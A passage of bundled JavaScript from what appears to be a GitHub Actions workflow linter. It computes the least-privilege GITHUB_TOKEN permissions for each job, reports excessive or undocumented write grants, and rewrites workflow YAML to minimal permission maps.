        acc.unknown.push(at(`job ${job.id}: the called workflow ${value} is not valid: ${called.errors[0].message}`));
        return;
    }
    if (visiting.has(called.file))
        return;
    visiting.add(called.file);
    for (const calledJob of called.jobs) {
        acc.merge(computeJob(called, calledJob, options, visiting), `job ${job.id} > ${value.replace(/@.*$/, '')} > job ${calledJob.id}: `, at(`job ${job.id} calls ${value}: `));
    }
    visiting.delete(called.file);
}

;// CONCATENATED MODULE: ./packages/permissions/src/rules.ts

const EXCESSIVE_PERMISSIONS = 'excessive-permissions';
const UNDOCUMENTED_PERMISSIONS = 'undocumented-permissions';
const UNKNOWN_ACTION_PERMISSIONS = 'unknown-action-permissions';
const permissionRules = [
    {
        id: EXCESSIVE_PERMISSIONS,
        title: 'The GITHUB_TOKEN has more access than the job needs',
        severity: 'error',
        why: "Every step of a job, and every action it pulls in, can use the job's GITHUB_TOKEN. With the default token (no " +
            '`permissions:`), `write-all`, or a write scope at workflow level, one compromised dependency or injected script can push ' +
            'code, rewrite releases or approve pull requests. A grant cut to what the job really uses limits what such a step can do.',
        fix: 'Set `permissions: {}` at the top of the workflow and give each job exactly the map the message names (run with ' +
            '`fix: true` to write it, each scope with a comment saying why).',
        before: [
            'on: push',
            'permissions: write-all',
            'jobs:',
            '  test:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/checkout@v5',
            '      - run: go test ./...',
        ].join('\n'),
        after: [
            'on: push',
            'permissions: {}',
            'jobs:',
            '  test:',
            '    runs-on: ubuntu-latest',
            '    permissions:',
            '      contents: read # actions/checkout: clones the repository',
            '    steps:',
            '      - uses: actions/checkout@v5',
            '      - run: go test ./...',
        ].join('\n'),
        action: 'harden-permissions',
    },
    {
        id: UNDOCUMENTED_PERMISSIONS,
        title: 'A write grant has no comment saying why',
        severity: 'note',
        // A code smell rather than a risk in itself, as zizmor rates it.
        persona: 'pedantic',
        why: 'A write scope is a standing risk that reviewers must weigh. Without a reason next to it nobody can tell, a year later, ' +
            'whether it is still needed, and write grants only ever grow.',
        fix: 'Add a comment on the same line (or the line above) naming the step that needs the write access.',
        before: ['permissions:', '  contents: write'].join('\n'),
        after: ['permissions:', '  contents: write # softprops/action-gh-release: creates the release'].join('\n'),
        action: 'harden-permissions',
    },
    {
        id: UNKNOWN_ACTION_PERMISSIONS,
        title: "A step's token use cannot be worked out",
        severity: 'note',
        why: 'The minimal grant is only as good as what is known about every step. An action missing from the knowledge base, a ' +
            'script that hands the token to an arbitrary program, or a called workflow that cannot be read could need any scope, so ' +
            'the job keeps its current grant rather than lose a right that cannot be proved unneeded. A step that runs code the ' +
            'audit does not read (a script of the repository, a make target, `npm run x`, a tool the knowledge base does not know) ' +
            'or a publisher (`npm publish`, `changeset publish`, `mkdocs gh-deploy`, ...) may request an OIDC token and push with ' +
            'the credentials actions/checkout persisted: the job keeps `id-token`, and `contents`, `packages`, `pages` when those ' +
            'credentials are there, wherever they are granted, and its checkout keeps its credentials.',
        fix: 'Pass the token to that step only if it needs it, read what it does with it, and document the grant; or call the API ' +
            'with `gh` so the scope can be derived. Give `github-token` to read workflows called from other repositories. For a ' +
            'kept right the step does not use, remove it by hand (and set `persist-credentials: false` on a checkout whose ' +
            'credentials no later step pushes with): the audit cannot prove it unused.',
        before: ['- uses: some-org/unknown-action@v1', '  with:', '    token: ${{ github.token }}'].join('\n'),
        after: [
            'permissions:',
            '  issues: write # some-org/unknown-action: comments on the issue (read from its source)',
            '...',
            '- uses: some-org/unknown-action@v1',
            '  with:',
            '    token: ${{ github.token }}',
        ].join('\n'),
        action: 'harden-permissions',
    },
];
/** `{contents: read, issues: write}`; `{}` for nothing. */
function formatScopes(scopes) {
    const entries = Object.keys(scopes).sort().map((scope) => `${scope}: ${scopes[scope]}`);
    return `{${entries.join(', ')}}`;
}
function effectiveGrant(wf, job) {
    const block = job.permissions ?? wf.permissions;
    if (!block)
        return { kind: 'default' };
    const level = job.permissions ? 'job' : 'workflow';
    if (block.kind === 'read-all' || block.kind === 'write-all')
        return { kind: block.kind, block, level };
    const scopes = {};
    for (const [name, scope] of block.scopes) {
        if (scope.level !== 'none' && SCOPES.includes(name))
            scopes[name] = scope.level;
    }
    return { kind: 'map', scopes, block, level };
}
const rules_RANK = { read: 1, write: 2 };
/** The level of one scope a grant gives (the default token: the write it may give, never id-token). */
function grantedLevel(grant, scope) {
    const levels = SCOPE_LEVELS[scope];
    switch (grant.kind) {
        case 'default':
            return ['contents', 'packages', 'pages'].includes(scope) ? 'write' : undefined;
        case 'write-all':
            return levels.includes('write') ? 'write' : levels[0];
        case 'read-all':
            return levels.includes('read') ? 'read' : undefined;
        case 'map':
            return grant.scopes[scope];
    }
}
/**
 * Rights the job keeps because a step may use them (`need.mayUse`) and the grant gives them, each
 * with the first step that may use it. Never more than the grant: a kept right is never added.
 */
function keptRights(grant, need) {
    const scopes = {};
    const by = new Map();
    for (const use of need.mayUse) {
        for (const right of use.rights) {
            const level = grantedLevel(grant, right);
            if (!level)
                continue;
            const current = scopes[right];
            if (!current || rules_RANK[level] > rules_RANK[current])
                scopes[right] = level;
            if (!by.has(right))
                by.set(right, use);
        }
    }
    return { scopes, by };
}
/** What the job should be granted: what it needs, plus the rights kept for the steps that may use them. */
function targetScopes(wf, job, need) {
    const all = keptRights(effectiveGrant(wf, job), need);
    // Only what goes beyond the need is kept for the steps that may use it.
    const kept = {};
    const by = new Map();
    const scopes = { ...need.scopes };
    for (const [scope, level] of Object.entries(all.scopes)) {
        const current = scopes[scope];
        if (current && rules_RANK[level] <= rules_RANK[current])
            continue;
        scopes[scope] = level;
        kept[scope] = level;
        by.set(scope, all.by.get(scope));
    }
    const sorted = {};
    for (const scope of Object.keys(scopes).sort())
        sorted[scope] = scopes[scope];
    return { scopes: sorted, kept, by };
}
/** Scopes granted beyond the need: `contents: write (needs read)`, `issues: write (not needed)`. */
function excess(granted, needed) {
    const out = [];
    for (const scope of Object.keys(granted).sort()) {
        const have = granted[scope];
        const want = needed[scope];
        if (!want)
            out.push(`${scope}: ${have} (not needed)`);
        else if (rules_RANK[have] > rules_RANK[want])
            out.push(`${scope}: ${have} (needs ${want})`);
    }
    return out;
}
/** Scopes the job needs that its explicit grant lacks. */
function missing(granted, needed) {
    return Object.keys(needed).filter((scope) => !granted[scope] || rules_RANK[granted[scope]] < rules_RANK[needed[scope]]);
}
/** Findings of the three permission rules for one workflow, given what each job needs. */
function permissionFindings(wf, computed) {
    const findings = [];
    if (wf.kind !== 'workflow')
        return unknownFindings(wf, computed);
    const base = { file: wf.file };
    const top = wf.permissions;
    // Workflow level.
    if (top?.kind === 'write-all' || top?.kind === 'read-all') {
        findings.push({
            ...base,
            rule: EXCESSIVE_PERMISSIONS,
            severity: top.kind === 'write-all' ? 'error' : 'warning',
            message: `permissions: ${top.kind} at workflow level gives every job ${top.kind === 'write-all' ? 'write' : 'read'} access to every scope. Use permissions: {} and grant each job what it needs.`,
            line: top.valuePosition.line,
            column: top.valuePosition.column,
            fix: 'fix: true sets permissions: {} and writes the minimal map for each job',
        });
    }
    else if (top?.kind === 'map') {
        for (const [name, scope] of top.scopes) {
            if (scope.level !== 'write')
                continue;
            const inheriting = wf.jobs.filter((job) => !job.permissions && computed.has(job.id));
            const users = inheriting
                .filter((job) => targetScopes(wf, job, computed.get(job.id)).scopes[name] === 'write')
                .map((job) => job.id);
            // A job with a step whose token use is unknown may need it: never claim it does not.
            const unexplained = inheriting
                .filter((job) => computed.get(job.id).unknown.length > 0 && !users.includes(job.id))
                .map((job) => job.id);
            const holders = [...users, ...unexplained];
            const needText = users.length ? `only ${users.join(', ')} need${users.length === 1 ? 's' : ''} it` : '';
            const mayText = unexplained.length
                ? `${unexplained.join(', ')} may need it (a step's token use could not be worked out)`
                : '';
            findings.push({
                ...base,
                rule: EXCESSIVE_PERMISSIONS,
                severity: 'warning',
                message: `${name}: write at workflow level gives every job write access to ${name}` +
                    (holders.length
                        ? `; ${[needText, mayText].filter(Boolean).join('; ')}: grant it in ${holders.length === 1 ? 'that job' : 'those jobs'}.`
                        : '; no job needs it.'),
                line: scope.position.line,
                column: scope.position.column,
                ...(unexplained.length ? {} : { fix: 'fix: true moves the grant to the jobs that need it' }),
            });
        }
    }
    if (top)
        findings.push(...undocumented(wf, top, undefined));
    for (const job of wf.jobs) {
        const need = computed.get(job.id);
        if (!need)
            continue;
        const minimal = formatScopes(need.scopes);
        const target = targetScopes(wf, job, need);
        const keptText = formatScopes(target.kept);
        const fixable = need.unknown.length === 0;
        const known = !fixable
            ? `It needs at least ${minimal}; ${need.unknown.length} step use${need.unknown.length === 1 ? '' : 's'} of the token could not be worked out.`
            : keptText !== '{}'
                ? `It needs ${minimal}, and keeps ${keptText} for steps that may use ${Object.keys(target.kept).length === 1 ? 'it' : 'them'}.`
                : `It needs ${minimal}.`;
        const jobBase = { ...base, job: job.id };
        if (!top && !job.permissions) {
            findings.push({
                ...jobBase,
                rule: EXCESSIVE_PERMISSIONS,
                severity: 'error',
                message: `Job ${job.id} runs with the default GITHUB_TOKEN permissions (no permissions: at workflow or job level). ${known}`,
                line: job.position.line,
                column: job.position.column,
                ...(fixable ? { fix: 'fix: true writes the minimal map' } : {}),
            });
        }
        const block = job.permissions;
        if (block && (block.kind === 'write-all' || block.kind === 'read-all')) {
            findings.push({
                ...jobBase,
                rule: EXCESSIVE_PERMISSIONS,
                severity: block.kind === 'write-all' ? 'error' : 'warning',
                message: `Job ${job.id} has permissions: ${block.kind}. ${known}`,
                line: block.valuePosition.line,
                column: block.valuePosition.column,
                ...(fixable ? { fix: 'fix: true writes the minimal map' } : {}),
            });
        }
        else if (block && fixable) {
            const grant = effectiveGrant(wf, job);
            if (grant.kind === 'map') {
                const extra = excess(grant.scopes, target.scopes);
                if (extra.length) {
                    findings.push({
                        ...jobBase,
                        rule: EXCESSIVE_PERMISSIONS,
                        severity: 'warning',
                        message: `Job ${job.id} is granted more than it needs: ${extra.join(', ')}. Minimal: ${formatScopes(target.scopes)}${keptText !== '{}' ? ` (${keptText} kept for steps that may use it)` : ''}.`,
                        line: block.position.line,
                        column: block.position.column,
                        fix: 'fix: true writes the minimal map',
                    });
                }
            }
        }
        if (block)
            findings.push(...undocumented(wf, block, job.id));
    }
    for (const finding of [...unknownFindings(wf, computed), ...keptFindings(wf, computed)])
        findings.push(finding);
    return findings;
}
/**
 * One note per step for which a job keeps rights: the report names the step and why, so a run that
 * keeps rights never reads as clean. Jobs with unknown uses keep everything and are reported as such.
 */
function keptFindings(wf, computed) {
    const out = [];
    for (const job of wf.jobs) {
        const need = computed.get(job.id);
        if (!need || need.unknown.length || !need.mayUse.length)
            continue;
        const { kept, by } = targetScopes(wf, job, need);
        const perUse = new Map();
        for (const [scope, use] of by)
            perUse.set(use, { ...perUse.get(use), [scope]: kept[scope] });
        for (const [use, scopes] of perUse) {
            out.push({
                rule: UNKNOWN_ACTION_PERMISSIONS,
                severity: 'note',
                message: `${use.message}; job ${job.id} keeps ${formatScopes(scopes)}.`,
                file: wf.file,
                line: use.line,
                column: use.column,
                job: job.id,
                ...(use.step ? { step: use.step } : {}),
            });
        }
    }
    return out;
}
function undocumented(wf, block, job) {
    const out = [];
    const where = job ? `job ${job}` : 'the workflow';
    if (block.kind === 'write-all') {
        return [];
    }
    for (const [name, scope] of block.scopes) {
        if (scope.level !== 'write' || scope.comment)
            continue;
        out.push({
            rule: UNDOCUMENTED_PERMISSIONS,
            severity: 'note',
            message: `${name}: write in ${where} has no comment saying why it is needed.`,
            file: wf.file,
            line: scope.position.line,
            column: scope.position.column,
            ...(job ? { job } : {}),
        });
    }
    return out;
}
function unknownFindings(wf, computed) {
    const out = [];
    const seen = new Set();
    for (const [jobId, need] of computed) {
        for (const unknown of need.unknown) {
            const key = `${unknown.line}:${unknown.column}:${unknown.message}`;
            if (seen.has(key))
                continue;
            seen.add(key);
            out.push({
                rule: UNKNOWN_ACTION_PERMISSIONS,
                severity: 'note',
                message: wf.kind === 'action'
                    ? `${unknown.message}; callers of this action cannot be given an exact grant.`
                    : `${unknown.message}; job ${jobId} keeps its current grant.`,
                file: wf.file,
                line: unknown.line,
                column: unknown.column,
                job: jobId,
                ...(unknown.step ? { step: unknown.step } : {}),
            });
        }
    }
    return out;
}

// EXTERNAL MODULE: ./node_modules/.pnpm/yaml@2.9.1/node_modules/yaml/dist/index.js
var dist = __webpack_require__(88009);
;// CONCATENATED MODULE: ./packages/permissions/src/fix.ts
// `fix: true`: write `permissions: {}` at the top and each job's minimal map, every grant with a
// `# reason`. Edits are made on the file's own lines (located through the yaml Document's ranges), so
// everything else - comments, quoting, anchors, blank lines, CRLF - stays byte for byte.



const MAX_COMMENT = 110;
/**
 * The minimal-permission fix for one workflow. Jobs the engine cannot fully explain, and jobs whose
 * explicit grant lacks something they appear to need (the analysis and the author disagree: a human
 * decides), are skipped; the top level becomes `permissions: {}` only when no skipped job inherits it.
 */
function fixPermissions(wf, computed) {
    const result = { text: wf.text, changed: false, fixed: [], skipped: [], kept: [] };
    if (wf.kind !== 'workflow' || wf.errors.length)
        return result;
    const lines = wf.text.split(/\r?\n/);
    const lineStarts = lineOffsets(wf.text);
    const edits = [];
    const fixedJobs = new Set();
    for (const job of wf.jobs) {
        const need = computed.get(job.id);
        if (!need)
            continue;
        if (need.unknown.length) {
            result.skipped.push({
                job: job.id,
                reason: `${need.unknown.length} use${need.unknown.length === 1 ? '' : 's'} of the token could not be worked out`,
            });
            continue;
        }
        const grant = effectiveGrant(wf, job);
        const target = targetScopes(wf, job, need);
        const keptScopes = Object.keys(target.kept);
        if (grant.kind === 'default' && keptScopes.length) {
            // The default token's levels depend on a repository setting the audit cannot read.
            result.skipped.push({
                job: job.id,
                reason: `it runs with the default token and ${target.by.get(keptScopes[0]).message}: grant ${keptScopes.join(', ')} by hand at the level it needs`,
            });
            continue;
        }
        if (grant.kind === 'map' || grant.kind === 'read-all') {
            const granted = grant.kind === 'map' ? grant.scopes : {};
            const lacking = grant.kind === 'map'
                ? missing(granted, need.scopes)
                : Object.keys(need.scopes).filter((s) => need.scopes[s] === 'write');
            if (lacking.length) {
                result.skipped.push({
                    job: job.id,
                    reason: `its grant lacks ${lacking.join(', ')}, which the job appears to need: left for a human to decide`,
                });
                continue;
            }
        }
        fixedJobs.add(job.id);
        result.fixed.push(job.id);
        const reasons = { ...need.reasons };
        for (const scope of keptScopes) {
            const use = target.by.get(scope);
            // The comment names the first reason: the kept one, when it is what sets the level.
            reasons[scope] =
                need.scopes[scope] === target.kept[scope]
                    ? [...(reasons[scope] ?? []), keptComment(use.message)]
                    : [keptComment(use.message), ...(reasons[scope] ?? [])];
        }
        for (const use of new Set(target.by.values())) {
            const scopes = {};
            for (const scope of keptScopes)
                if (target.by.get(scope) === use)
                    scopes[scope] = target.kept[scope];
            result.kept.push({ job: job.id, scopes: formatScopes(scopes), because: use.message });
        }
        const wanted = { ...need, scopes: target.scopes, reasons };
        if (job.permissions && isMinimal(job.permissions, wanted))
            continue;
        const edit = jobEdit(wf, job, wanted, lines, lineStarts);
        if (edit)
            edits.push(edit);
    }
    const inheriting = wf.jobs.filter((job) => !job.permissions && !fixedJobs.has(job.id) && computed.has(job.id));
    if (inheriting.length) {
        result.topSkipped = `job${inheriting.length === 1 ? '' : 's'} ${inheriting.map((j) => j.id).join(', ')} still inherit${inheriting.length === 1 ? 's' : ''} the workflow's grant`;
    }
    else if (!(wf.permissions?.kind === 'empty' && /\{\s*\}/.test(lineText(lines, wf.permissions.valuePosition.line)))) {
        const edit = topEdit(wf, lines, lineStarts);
        if (edit)
            edits.push(edit);
    }
    if (!edits.length)
        return result;
    edits.sort((a, b) => b.start - a.start);
    const next = [...lines];
    for (const edit of edits)
        next.splice(edit.start, edit.deleteCount, ...edit.lines);
    const text = next.join(wf.lineEnding);
    // Never write a file GitHub would reject.
    const check = (0,src/* loadWorkflowFile */.md)(wf.file, text, { validate: false });
    if (check.errors.length) {
        return {
            ...result,
            fixed: [],
            skipped: wf.jobs.map((j) => ({ job: j.id, reason: `the edit would not parse (${check.errors[0].message})` })),
        };
    }
    return { ...result, text, changed: text !== wf.text };
}
/** A kept right's comment: the step and what it runs (the note and the finding say why at length). */
function keptComment(message) {
    return `kept: ${message.replace(/: (it can|may) .*$/, '')}`;
}
function lineText(lines, line) {
    return lines[line - 1] ?? '';
}
function lineOffsets(text) {
    const starts = [0];
    for (let i = 0; i < text.length; i++)
        if (text.charCodeAt(i) === 10)
            starts.push(i + 1);
    return starts;
}
/** 0-based line of an offset. */
function lineOf(starts, offset) {
    let lo = 0;
    let hi = starts.length - 1;
    while (lo < hi) {
        const mid = (lo + hi + 1) >> 1;
        if (starts[mid] <= offset)
            lo = mid;
        else
            hi = mid - 1;
    }
    return lo;
}
/** Same scopes and levels as needed (ignoring `none`), and every scope has a comment. */
function isMinimal(block, need) {
    if (block.kind === 'read-all' || block.kind === 'write-all')
        return false;
    const wanted = Object.keys(need.scopes);
    const present = [...block.scopes].filter(([, s]) => s.level !== 'none');
    if (present.length !== wanted.length)
        return false;
    return present.every(([name, s]) => need.scopes[name] === s.level && Boolean(s.comment));
}
function comment(reasons) {
    const list = (reasons ?? []).map((r) => r.replace(/[\r\n]+/g, ' '));
    let text = list[0] ?? '';
    if (list.length > 1)
        text += ` (+${list.length - 1} more)`;
    if (text.length > MAX_COMMENT)
        text = `${text.slice(0, MAX_COMMENT - 1)}…`;
    return text;
}
function render(indent, step, need) {
    const scopes = Object.keys(need.scopes).sort();
    if (!scopes.length)
        return [`${indent}permissions: {}`];
    return [
        `${indent}permissions:`,
        ...scopes.map((scope) => `${indent}${step}${scope}: ${need.scopes[scope]} # ${comment(need.reasons[scope])}`),
    ];
}
function pairOf(map, key) {
    if (!(0,dist/* isMap */.jh)(map))
        return undefined;
    return map.items.find((item) => (0,dist/* isPair */.tO)(item) && (0,dist/* isScalar */.jn)(item.key) && item.key.value === key);
}
/** The 0-based [first, last] lines of a `key: value` pair. */
function pairLines(pair, starts, text) {
    const key = pair.key;
    const first = lineOf(starts, key.range[0]);
    const value = pair.value;
    let end = value?.range ? value.range[1] : key.range[1];
    // A block value's range may run to the start of the next line.
    while (end > 0 && /\s/.test(text[end - 1] ?? ''))
        end--;
    return [first, lineOf(starts, Math.max(end - 1, key.range[0]))];
}
function jobEdit(wf, job, need, lines, starts) {
    const map = job.node;
    const firstKey = map.items.find(dist/* isPair */.tO)?.key;
    if (!firstKey?.range)
        return undefined;
    const keyLine = lineOf(starts, firstKey.range[0]);
    const indent = (lines[keyLine] ?? '').slice(0, firstKey.range[0] - starts[keyLine]);
    if (!/^ *$/.test(indent))
        return undefined; // a flow-style job: leave it
    const idIndent = job.position.column - 1;
    const step = ' '.repeat(Math.max(2, indent.length - idIndent));
    const rendered = render(indent, step, need);
    const existing = pairOf(map, 'permissions');
    if (existing) {
        const [first, last] = pairLines(existing, starts, wf.text);
        return { start: first, deleteCount: last - first + 1, lines: withTrailingComment(rendered, existing, first, last) };
    }
    const anchor = pairOf(map, 'steps') ?? pairOf(map, 'uses');
    const anchorKey = anchor?.key;
    if (anchorKey?.range)
        return { start: aboveComments(lines, lineOf(starts, anchorKey.range[0]), indent), deleteCount: 0, lines: rendered };
    const lastPair = [...map.items].reverse().find(dist/* isPair */.tO);
    if (!lastPair)
        return undefined;
    const [, last] = pairLines(lastPair, starts, wf.text);
    return { start: last + 1, deleteCount: 0, lines: rendered };
}
function topEdit(wf, lines, starts) {
    const root = wf.document.contents;
    if (!(0,dist/* isMap */.jh)(root))
        return undefined;
    const firstKey = root.items.find(dist/* isPair */.tO)?.key;
    if (!firstKey?.range)
        return undefined;
    const keyLine = lineOf(starts, firstKey.range[0]);
    const indent = (lines[keyLine] ?? '').slice(0, firstKey.range[0] - starts[keyLine]);
    const existing = pairOf(root, 'permissions');
    const rendered = [`${indent}permissions: {}`];
    if (existing) {
        const [first, last] = pairLines(existing, starts, wf.text);
        return { start: first, deleteCount: last - first + 1, lines: withTrailingComment(rendered, existing, first, last) };
    }
    const jobs = pairOf(root, 'jobs');
    const jobsKey = jobs?.key;
    if (!jobsKey?.range)
        return undefined;
    return {
        start: aboveComments(lines, lineOf(starts, jobsKey.range[0]), indent),
        deleteCount: 0,
        lines: [...rendered, ''],
    };
}
/**
 * The rendered lines, the first keeping the trailing comment of the one-line pair they replace
 * (`permissions: write-all # TODO: narrow`): the comment is the author's, not the fix's to drop.
 */
function withTrailingComment(rendered, pair, first, last) {
    const comment = first === last ? pair.value?.comment : undefined;
    if (!comment || /[\r\n]/.test(comment))
        return rendered;
    return [`${rendered[0]} #${comment}`, ...rendered.slice(1)];
}
/** Moves an insertion point above the comment lines that belong to the key it precedes. */
function aboveComments(lines, line, indent) {
    let at = line;
    while (at > 0 && (lines[at - 1] ?? '').startsWith(`${indent}#`))
        at--;
    return at;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./node_modules/.pnpm/diff@9.0.0/node_modules/diff/libesm/patch/create.js + 2 modules
var create = __webpack_require__(46940);
// EXTERNAL MODULE: ./packages/core/src/command.ts
var command = __webpack_require__(72437);
// EXTERNAL MODULE: ./packages/core/src/policy.ts
var src_policy = __webpack_require__(70608);
// EXTERNAL MODULE: ./packages/core/src/audit.ts
var audit = __webpack_require__(99767);
// EXTERNAL MODULE: ./packages/core/src/inputs.ts
var src_inputs = __webpack_require__(96875);
// EXTERNAL MODULE: ./packages/core/src/files.ts
var src_files = __webpack_require__(3623);
// EXTERNAL MODULE: ./packages/core/src/errors.ts
var errors = __webpack_require__(637);
// EXTERNAL MODULE: ./packages/core/src/parallel.ts
var parallel = __webpack_require__(16561);
// EXTERNAL MODULE: ./packages/core/src/rules.ts
var rules = __webpack_require__(6471);
// EXTERNAL MODULE: ./packages/core/src/report/json.ts
var json = __webpack_require__(65197);
// EXTERNAL MODULE: ./packages/core/src/report/summary.ts
var summary = __webpack_require__(60631);
// EXTERNAL MODULE: ./packages/core/src/suppression.ts
var suppression = __webpack_require__(68223);
// EXTERNAL MODULE: ./packages/core/src/report/sarif.ts
var sarif = __webpack_require__(96130);
// EXTERNAL MODULE: ./packages/core/src/http.ts
var http = __webpack_require__(38014);
// EXTERNAL MODULE: ./packages/core/src/finding.ts
var finding = __webpack_require__(77693);
;// CONCATENATED MODULE: ./packages/permissions/src/patterns/common.ts


const ACTION = 'harden-permissions';
/** Defines a pattern rule (every one is documented in the harden-permissions README). */
function rule(definition) {
    return { ...definition, action: ACTION };
}
/**
 * Triggers whose event is started, and whose payload is written, by people without write access to
 * the repository: a fork's pull request, an issue or comment from anyone, a run of another workflow
 * that such an event started.
 */
const OUTSIDER_TRIGGERS = new Set([
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
    'issues',
    'issue_comment',
    'discussion',
    'discussion_comment',
    'workflow_run',
    'fork',
    'watch',
    'gollum',
]);
/** Triggers that run in the base repository's trusted context (secrets, a write token) for outsiders' events. */
const PRIVILEGED_PR_TRIGGERS = new Set(['pull_request_target', 'workflow_run']);
function triggerNames(wf) {
    return new Set(wf.triggers.map((t) => t.name));
}
function hasOutsiderTrigger(wf) {
    return wf.triggers.some((t) => OUTSIDER_TRIGGERS.has(t.name));
}
function parseUses(uses) {
    const value = uses.trim();
    if (value.startsWith('docker://'))
        return { name: value, kind: 'docker' };
    if (value.startsWith('./') || value.startsWith('../'))
        return { name: value, kind: 'local' };
    const at = value.lastIndexOf('@');
    const name = (at === -1 ? value : value.slice(0, at)).toLowerCase().replace(/\/+$/, '');
    return at === -1 ? { name, kind: 'action' } : { name, ref: value.slice(at + 1), kind: 'action' };
}
/** True when the step uses one of the actions (`owner/repo` or `owner/repo/path`, case-insensitive). */
function stepUses(step, ...names) {
    if (!step.uses)
        return false;
    const parsed = parseUses(step.uses.value);
    return parsed.kind === 'action' && names.includes(parsed.name);
}
/** The major version of a `vN`, `vN.M.P` or `N.M` ref; undefined for SHAs and branches. */
function majorVersion(ref) {
    const match = /^v?(\d+)(?:\.\d+)*$/.exec(ref ?? '');
    return match ? Number(match[1]) : undefined;
}
/**
 * The major version of the action a step uses: from its ref (`@v4`), else from the version comment
 * that SHA pins carry on the same line (`@<sha> # v4.2.2`); undefined when neither says.
 */
function usesMajorVersion(wf, step) {
    if (!step.uses)
        return undefined;
    const fromRef = majorVersion(parseUses(step.uses.value).ref);
    if (fromRef !== undefined)
        return fromRef;
    const line = wf.text.split(/\r?\n/)[step.uses.line - 1] ?? '';
    const comment = /#\s*(v?\d+(?:\.\d+)*)\b/.exec(line.slice(step.uses.column - 1 + step.uses.value.length));
    return comment ? majorVersion(comment[1]) : undefined;
}
/** The `key: value` pair of a mapping of the Document, by key. */
function common_pairOf(map, key) {
    return map.items.find((pair) => (0,dist/* isScalar */.jn)(pair.key) && pair.key.value === key);
}
/** The finding skeleton for a job / step. */
function at(wf, definition, position, message, where = {}) {
    return {
        rule: definition.id,
        severity: definition.severity,
        message,
        file: wf.file,
        line: position.line,
        column: position.column,
        ...(position.endLine !== undefined ? { endLine: position.endLine } : {}),
        ...(position.endColumn !== undefined ? { endColumn: position.endColumn } : {}),
        ...(where.job ? { job: where.job.id } : {}),
        ...(where.step ? { step: (0,src/* stepLabel */.vO)(where.step) } : {}),
    };
}
/** Every context path read by the `${{ }}` expressions of a string. */
function contextsIn(text) {
    const out = [];
    for (const found of (0,src/* findExpressions */.zV)(text))
        out.push(...(0,src/* expressionContexts */.Hu)(found.expression));
    return out;
}
/** The env layers visible to a step, innermost last: workflow, job, step. */
function envLayers(wf, job, step) {
    return [wf.env, job.env, ...(step ? [step.env] : [])];
}
/** Looks a variable up through env layers (innermost wins); undefined when not set in the file. */
function lookupEnv(layers, name) {
    for (let i = layers.length - 1; i >= 0; i--) {
        const layer = layers[i];
        for (let j = layer.length - 1; j >= 0; j--)
            if (layer[j].name === name)
                return layer[j];
    }
    return undefined;
}
/** Every string the job's steps and env hand to the runner, for "does this job use secrets" checks. */
function jobStrings(wf, job) {
    const out = [];
    for (const kv of [...wf.env, ...job.env])
        out.push(kv.value.value);
    for (const [, value] of job.with)
        out.push(value.value);
    if (job.secrets instanceof Map)
        for (const [, value] of job.secrets)
            out.push(value.value);
    for (const step of job.steps) {
        if (step.run)
            out.push(step.run.text);
        for (const [, value] of step.with)
            out.push(value.value);
        for (const kv of step.env)
            out.push(kv.value.value);
    }
    return out;
}
/** True when the job can read repository secrets other than the GITHUB_TOKEN. */
function jobUsesSecrets(wf, job) {
    if (job.secrets === 'inherit')
        return true;
    return jobStrings(wf, job).some((text) => contextsIn(text).some((path) => path === 'secrets' || (path.startsWith('secrets.') && path.toLowerCase() !== 'secrets.github_token')));
}
/**
 * True when the job's GITHUB_TOKEN may write: no `permissions:` anywhere (the repository default may
 * be write-all), `write-all`, or a write scope in the effective block.
 */
function jobTokenMayWrite(wf, job) {
    const block = job.permissions ?? wf.permissions;
    if (!block)
        return true;
    if (block.kind === 'write-all')
        return true;
    if (block.kind !== 'map')
        return false;
    return [...block.scopes.values()].some((scope) => scope.level === 'write');
}
/** Every job and step `if:` of the file, in document order. */
function conditions(wf) {
    const out = [];
    const add = (job, step, value, node) => {
        if (!value)
            return;
        const script = (0,src/* scalarScript */.mh)(wf, node.get('if', true));
        const condition = (0,src/* readCondition */.sK)(value.value);
        let ast;
        try {
            ast = (0,src/* parseExpression */.YK)(condition.expression);
        }
        catch {
            ast = undefined;
        }
        out.push({
            job,
            ...(step ? { step } : {}),
            value,
            condition,
            ...(ast ? { ast } : {}),
            toPosition: (offset) => script?.offsetToPosition(offset) ?? { line: value.line, column: value.column },
        });
    };
    for (const job of wf.jobs) {
        add(job, undefined, job.if, job.node);
        for (const step of job.steps)
            add(job, step, step.if, step.node);
    }
    return out;
}
/** Where a node of a condition's expression is written in the file. */
function conditionNodePosition(placed, node) {
    const range = (0,src/* expressionRange */.Y9)(placed.condition.expression, node);
    const start = placed.toPosition(placed.condition.offset + range.start);
    const end = placed.toPosition(placed.condition.offset + Math.max(range.start, range.end - 1));
    return { line: start.line, column: start.column, endLine: end.line, endColumn: end.column + 1 };
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/anonymous-definition.ts


const anonymousDefinitionRule = rule({
    id: 'anonymous-definition',
    title: 'A workflow, job or action has no name',
    severity: 'note',
    // No security impact: a pedantic finding, as in zizmor.
    persona: 'pedantic',
    why: 'Without `name:`, GitHub shows a workflow by its file path and a job by its id, and an action has nothing to show. In the ' +
        'Actions tab, a required-checks list or an audit log, a reader then has to open the file to know what ran, and two ' +
        'definitions are easier to confuse. This has no security impact by itself; it is reported as a note.',
    fix: 'Give the workflow and each job that runs steps a `name:` that says what it does.',
    before: ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: make'].join('\n'),
    after: [
        'name: Build',
        'on: push',
        'jobs:',
        '  build:',
        '    name: Build and test',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: make',
    ].join('\n'),
});
/** Where the document's top-level mapping starts (its first key, after any comments). */
function documentStart(wf) {
    return (0,src/* positionAt */.t$)(wf, wf.document.contents?.range?.[0] ?? 0);
}
function auditAnonymousDefinition(wf) {
    const findings = [];
    if (wf.kind === 'action') {
        if (!wf.action?.name?.value)
            findings.push(at(wf, anonymousDefinitionRule, documentStart(wf), 'The action has no name: add name: to action.yml.'));
        return findings;
    }
    if (!wf.name?.value)
        findings.push(at(wf, anonymousDefinitionRule, documentStart(wf), 'The workflow has no name: GitHub shows it by its file path. Add name: at the top.'));
    for (const job of wf.jobs) {
        // A reusable-workflow call is shown by the called workflow's name.
